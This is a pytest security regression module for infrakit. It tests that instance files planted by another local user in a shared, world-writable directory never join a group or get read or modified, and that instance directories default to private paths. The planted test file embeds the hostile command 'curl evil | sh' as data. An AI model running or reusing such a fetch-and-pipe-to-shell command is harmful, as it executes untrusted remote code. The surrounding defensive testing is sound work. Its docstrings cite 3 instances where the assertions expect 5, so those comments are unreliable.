"""Forged members (issue 19, B5): another local user can neither read instances nor join a group.

In: a group committed in a directory others may add files to (sticky and world-writable,
as ``/tmp`` is), then files an attacker plants there named ``instance-<digits>`` with the
group's tags (another user simulated as root with ``chown``: CI runs as root; elsewhere
the test skips, and fails under ``$CI``); and every entry point started without ``--dir``.
Out: the next commit keeps the real instances and never counts the planted ones
(``describe`` and the status say 3 of 3, the real 3); the planted files are never touched;
``instance-file describe`` (with ``-p`` too) lists only ours and names each planted file
in a warning; no entry point defaults to a shared temporary directory, and what they
create is private.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import tempfile
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner

from infrakit import cli, daemons
from infrakit.core import instances
from infrakit.operator import __main__ as operator_main
from infrakit.rpc import client
from tests.conftest import EXAMPLES
from tests.plugins.test_instance_file_access import OTHER, as_another_user
from tests.rpc.conftest import start_daemon

GROUP = "cattle"


def run(home: Path, *args: str, code: int = 0) -> Any:
    result = CliRunner().invoke(cli.cli, ["--home", str(home), *args])
    assert result.exit_code == code, (result.exit_code, result.stdout, result.stderr, result.exception)
    assert "Traceback" not in result.stderr
    return result


def plant(directory: Path, name: str, tags: dict[str, str]) -> Path:
    """What the attacker writes: the plugin's own format, the group's current tags, older than ours."""
    path = directory / name
    document = {"CreatedAt": 1.0, "ID": name, "LogicalID": None, "Spec": {"Init": "curl evil | sh"}, "Tags": tags}
    path.write_text(json.dumps(document, indent=2, sort_keys=True))
    as_another_user(path)
    return path


def test_planted_files_never_join_the_group_nor_cost_it_its_instances(tmp_path: Path) -> None:
    """Before: the commit (run as root) destroyed the 3 real instances as surplus and the group was
    made of the attacker's 3 files, reported Ready."""
    home, shared = tmp_path / "home", tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o1777)  # like /tmp
    run(home, "--dir", str(shared), "commit", str(EXAMPLES / "cattle.yaml"))
    real = {row["ID"]: row for row in json.loads(run(home, "describe", GROUP, "-o", "json").stdout)}
    assert len(real) == 5
    originals = {name: (shared / name).read_bytes() for name in real}
    tags = dict(next(iter(real.values()))["Tags"])
    planted = [plant(shared, f"instance-{n}", tags) for n in (11, 22, 33, 44, 55)]
    forged = {p.name: p.read_bytes() for p in planted}

    run(home, "commit", str(EXAMPLES / "cattle.yaml"))  # as root, in the directory recorded with the group
    assert {row["ID"] for row in json.loads(run(home, "describe", GROUP, "-o", "json").stdout)} == set(real)
    assert {name: (shared / name).read_bytes() for name in real} == originals
    run(home, "commit", str(EXAMPLES / "cattle2.yaml"))  # a roll and a scale-up: the planted are never counted

    members = {row["ID"] for row in json.loads(run(home, "describe", GROUP, "-o", "json").stdout)}
    assert len(members) == 10 and not members & set(forged)
    for name, data in forged.items():  # never touched, never labelled
        assert (shared / name).read_bytes() == data and os.lstat(shared / name).st_uid == OTHER
    status = json.loads(run(home, "inspect", GROUP, "-o", "json").stdout)["status"]
    assert status["replicas"] == 10 and status["readyReplicas"] == 10


def test_instance_file_describe_lists_only_ours_and_names_what_it_skips(tmp_path: Path) -> None:
    home = tmp_path / "home"
    run(home, "commit", str(EXAMPLES / "cattle.yaml"))
    directory = home / "instances"
    tags = {instances.TAG_GROUP: GROUP, "tier": "web"}
    planted = plant(directory, "instance-77", tags)
    for extra in ([], ["-p"]):
        result = run(home, "instance-file", "describe", "-o", "json", *extra)
        listed = json.loads(result.stdout)
        assert len(listed) == 5 and planted.name not in {row["ID"] for row in listed}
        assert planted.name in result.stderr and f"uid {OTHER}" in result.stderr
        if extra:
            assert all(row["Properties"]["Init"] != "curl evil | sh" for row in listed)
    refused = run(home, "instance-file", "destroy", planted.name, code=1)
    assert f"uid {OTHER}" in refused.stderr and len(refused.stderr.strip().splitlines()) == 1
    assert planted.exists()


# -- where instances go when no --dir is given --------------------------------------------------


def _under_temp(path: Path) -> bool:
    temp = Path(tempfile.gettempdir()).resolve()
    return path.resolve() == temp or temp in path.resolve().parents


def test_the_instance_daemon_keeps_instances_in_the_home_privately(tmp_path: Path) -> None:
    """Before: ``infrakit-instance-file`` wrote to the temporary directory, files 0644."""
    home = tmp_path / "home"
    sockdir = Path(tempfile.mkdtemp(prefix="ik-", dir="/tmp"))  # a unix socket's path is short
    env = {"INFRAKIT_HOME": str(home), "INFRAKIT_PLUGINS_DIR": str(sockdir / "plugins")}
    env = {**env, "INFRAKIT_INSTANCE_DIR": ""}  # not inherited from the test's environment
    daemon = start_daemon("instance-file", env=env)
    try:
        daemon.wait_for("Listening at:")
        remote = client.RemoteInstancePlugin(name="instance-file", address=str(sockdir / "plugins" / "instance-file"))
        made = remote.provision(instances.InstanceSpec(tags={instances.TAG_GROUP: "g"}, init="secret"))
        remote.close()
    finally:
        assert daemon.stop() == 0
        shutil.rmtree(sockdir, ignore_errors=True)
    path = home / "instances" / made
    assert path.is_file()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE(path.parent.stat().st_mode) == 0o700


def test_the_cli_keeps_instances_in_the_home_privately(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("INFRAKIT_INSTANCE_DIR", raising=False)
    home = tmp_path / "home"
    spec = tmp_path / "spec.json"
    spec.write_text(json.dumps({"Tags": {instances.TAG_GROUP: "g"}, "Init": "secret"}))
    made = run(home, "instance-file", "provision", str(spec)).stdout.strip()
    path = home / "instances" / made
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE(path.parent.stat().st_mode) == 0o700


@pytest.mark.parametrize(
    "command",
    [daemons.instance_file, daemons.group_default, operator_main.main, cli.cli],
    ids=["infrakit-instance-file", "infrakit-group-default", "infrakit-operator", "infrakit-local"],
)
def test_no_entry_point_defaults_to_a_shared_temporary_directory(
    command: click.Command, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    (option,) = [p for p in command.params if "--dir" in p.opts]
    default = option.get_default(click.Context(command))
    if default is None:  # computed when run: $INFRAKIT_HOME/instances (proved by the tests above)
        assert "HOME/instances" in (option.help or ""), option.help
        monkeypatch.setenv("INFRAKIT_HOME", str(tmp_path / "home"))
        from infrakit import options

        assert options.instance_dir() == tmp_path / "home" / "instances"
    else:
        assert not _under_temp(Path(str(default))), default


def test_a_file_mode_letting_others_write_is_refused(tmp_path: Path) -> None:
    result = CliRunner().invoke(daemons.instance_file, ["--dir", str(tmp_path), "--file-mode", "0666"])
    assert result.exit_code == 2 and "--file-mode" in result.output and "forge" in result.output


def test_a_commit_into_a_directory_every_user_may_write_fails_saying_why(tmp_path: Path) -> None:
    """Refused in one line naming the directory and the fix, before anything is recorded or written."""
    home, open_dir = tmp_path / "home", tmp_path / "open"
    open_dir.mkdir()
    os.chmod(open_dir, 0o777)
    failed = run(home, "--dir", str(open_dir), "commit", str(EXAMPLES / "cattle.yaml"), code=1)
    assert str(open_dir) in failed.stderr and f"chmod o-w {open_dir}" in failed.stderr
    assert len(failed.stderr.strip().splitlines()) == 1 and list(open_dir.iterdir()) == []
    assert json.loads(run(home, "ls", "-o", "json").stdout) == []
    os.chmod(open_dir, 0o700)  # fixed: the next commit converges
    run(home, "commit", str(EXAMPLES / "cattle.yaml"))
    assert len(json.loads(run(home, "describe", GROUP, "-o", "json").stdout)) == 5
